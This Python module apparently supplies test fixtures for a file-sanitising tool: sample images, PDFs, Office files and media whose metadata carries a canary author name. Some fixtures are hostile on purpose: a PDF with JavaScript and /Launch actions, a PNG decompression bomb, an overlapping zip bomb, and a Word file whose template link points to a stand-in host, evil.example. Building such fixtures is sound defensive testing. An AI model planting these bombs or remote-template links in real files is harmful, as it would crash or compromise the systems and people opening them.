"""Files that people send with bad intent, and honest ones that tell too much. All made here."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
from PIL import Image, PngImagePlugin

TOLD = "Truus-Kanarie"
"""A word that stands where a file tells of its maker: it may be in no copy."""
SHOWN = "Wat er gebeurde"
"""A word of the content: it stays."""

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def photo(form: str = "JPEG", size: tuple[int, int] = (40, 30)) -> bytes:
    """Return a picture with Exif (a name and a place), XMP, a comment and a text."""
    image, made = Image.new("RGB", size, "teal"), BytesIO()
    about = Image.Exif()
    about[0x013B] = TOLD  # artist
    about[0x010E] = TOLD
    about.get_ifd(0x8825)[2] = (52.0, 22.0, 1.0)
    extra: dict[str, object] = {"exif": about.tobytes()}
    if form == "PNG":
        words = PngImagePlugin.PngInfo()
        words.add_text("Author", TOLD)
        words.add_itxt("XML:com.adobe.xmp", f"<x>{TOLD}</x>")
        extra["pnginfo"] = words
    else:
        extra |= {"comment": TOLD.encode(), "xmp": f"<x>{TOLD}</x>".encode()}
    image.save(made, form, **extra)
    return made.getvalue()


def flood(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a PNG of some hundred kilobytes that is a picture of 900 million pixels."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * height), 9)
    parts = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(name, data) for name, data in parts)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def pdf(*, hostile: bool = True, password: str = "") -> bytes:
    """Return a PDF that runs a script, starts a program, carries a file and names its maker."""
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        page = document.pages[0]
        page.obj["/Contents"] = document.make_stream(f"BT ({SHOWN}) Tj ET".encode())
        document.docinfo["/Author"] = TOLD
        with document.open_metadata() as about:
            about["dc:creator"] = [TOLD]
        if hostile:
            _arm(document)
        closed = pikepdf.Encryption(owner=password, user=password) if password else False
        document.save(made, encryption=closed)
    return made.getvalue()


def _arm(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=f"app.alert('{TOLD}')")
    start = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=f"{TOLD}.exe")
    document.Root["/OpenAction"] = document.make_indirect(script)
    document.Root["/AA"] = pikepdf.Dictionary(WC=script)
    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=start)
    note = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Link"),
        Rect=[0, 0, 9, 9],
        A=start,
        T=TOLD,
    )
    document.pages[0].obj["/Annots"] = document.make_indirect(pikepdf.Array([note]))
    document.attachments["x.txt"] = TOLD.encode()


def zipped(parts: dict[str, bytes | str], *, first: str = "") -> bytes:
    """Return a zip of these parts; `first` is stored as it is, as OpenDocument wants."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content, ZIP_STORED if name == first else ZIP_DEFLATED)
    return made.getvalue()


def docx(**more: bytes | str) -> bytes:
    """Return a Word document that names its author in every place where Word does."""
    change = f'<w:ins w:id="1" w:author="{TOLD}" w:date="2026-01-01T00:00:00Z" w:rsidR="00AB">'
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": f'<w:document xmlns:w="{_W}">{change}{SHOWN}</w:ins></w:document>',
            "word/comments.xml": f'<w:comment w:author="{TOLD}" w:initials="{TOLD}">x</w:comment>',
            "docProps/core.xml": f"<dc:creator>{TOLD}</dc:creator>",
            "docProps/app.xml": f"<Company>{TOLD}</Company>",
            "docProps/custom.xml": f"<x>{TOLD}</x>",
            "word/media/image1.jpg": photo(),
            "word/_rels/settings.xml.rels": (
                '<Relationships><Relationship Id="r1" Type="x/attachedTemplate" '
                f'Target="https://evil.example/{TOLD}.dotm" TargetMode="External"/></Relationships>'
            ),
            **more,
        }
    )


def xlsx() -> bytes:
    """Return a spreadsheet that names who wrote a note in it."""
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "xl/workbook.xml": f"<workbook>{SHOWN}</workbook>",
            "xl/comments1.xml": f"<authors><author>{TOLD}</author></authors>",
            "xl/persons/person.xml": f'<person displayName="{TOLD}" id="1"/>',
            "docProps/core.xml": f"<cp:lastModifiedBy>{TOLD}</cp:lastModifiedBy>",
        }
    )


def odt() -> bytes:
    """Return an OpenDocument text that names its author and its printer."""
    kind = "application/vnd.oasis.opendocument.text"
    return zipped(
        {
            "mimetype": kind,
            "content.xml": f"<o><dc:creator>{TOLD}</dc:creator>{SHOWN}</o>",
            "meta.xml": f"<meta:initial-creator>{TOLD}</meta:initial-creator>",
            "settings.xml": f'<i config:name="PrinterName" config:type="string">{TOLD}</i>',
            "Thumbnails/thumbnail.png": photo("PNG"),
        },
        first="mimetype",
    )


def mp3() -> bytes:
    """Return a sound with tags before and behind."""
    tag = TOLD.encode().ljust(60)
    frames = b"\xff\xfb\x90\x64" + SHOWN.encode() * 40
    return (
        b"ID3\x03\x00\x00\x00\x00\x00" + bytes([len(tag)]) + tag + frames + b"TAG" + tag.ljust(125)
    )


def wav() -> bytes:
    """Return a sound with a list of who made it."""
    told = b"INFOIART" + struct.pack("<I", 20) + TOLD.encode().ljust(20)
    parts = _riff(b"fmt ", bytes(16)) + _riff(b"LIST", told) + _riff(b"data", SHOWN.encode() + b" ")
    return b"RIFF" + struct.pack("<I", len(parts) + 4) + b"WAVE" + parts


def _riff(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data


def mp4() -> bytes:
    """Return a film with a place, a maker and a moment."""
    when = box(b"mvhd", bytes(4) + b"\xe0\x00\x00\x01\xe0\x00\x00\x02" + bytes(80))
    where = box(b"udta", box(b"\xa9xyz", f"+52.37+4.89/{TOLD}".encode()))
    film = box(b"mdat", SHOWN.encode())
    head = box(b"ftyp", b"isom\x00\x00\x02\x00isommp41")
    return head + box(b"moov", when + where) + box(b"uuid", bytes(16) + TOLD.encode()) + film


def heic() -> bytes:
    """Return a picture of a telephone with Exif in an item of its own."""
    about, pixels = b"Exif\x00\x00" + TOLD.encode(), SHOWN.encode()
    head = box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic")
    entry = b"\x02\x00\x00\x00" + struct.pack(">HH4s", 1, 0, b"Exif") + b"\x00"
    items = box(b"iinf", b"\x00\x00\x00\x00" + struct.pack(">H", 1) + box(b"infe", entry))

    def meta(place: int) -> bytes:
        spot = struct.pack(">HHHII", 1, 0, 1, place, len(about))
        listed = b"\x00\x00\x00\x00\x44\x00" + struct.pack(">H", 1) + spot
        return box(b"meta", b"\x00\x00\x00\x00" + items + box(b"iloc", listed))

    place = len(head) + len(meta(0)) + 8
    return head + meta(place) + box(b"mdat", about + pixels)


def box(name: bytes, content: bytes) -> bytes:
    """Return a box of ISO 14496-12."""
    return struct.pack(">I", len(content) + 8) + name + content


def overlapping() -> bytes:
    """Return a zip whose list names one packed part a thousand times (Fifield 2019)."""
    whole = zipped({"[Content_Types].xml": "x", "word/document.xml": bytes(1_000_000)})
    start = whole.index(b"PK\x01\x02")
    entry = whole[whole.rindex(b"PK\x01\x02") : whole.rindex(b"PK\x05\x06")]
    listed = whole[start : whole.rindex(b"PK\x05\x06")] + entry * 1_000
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1_002, 1_002, len(listed), start, 0)
    return whole[:start] + listed + end
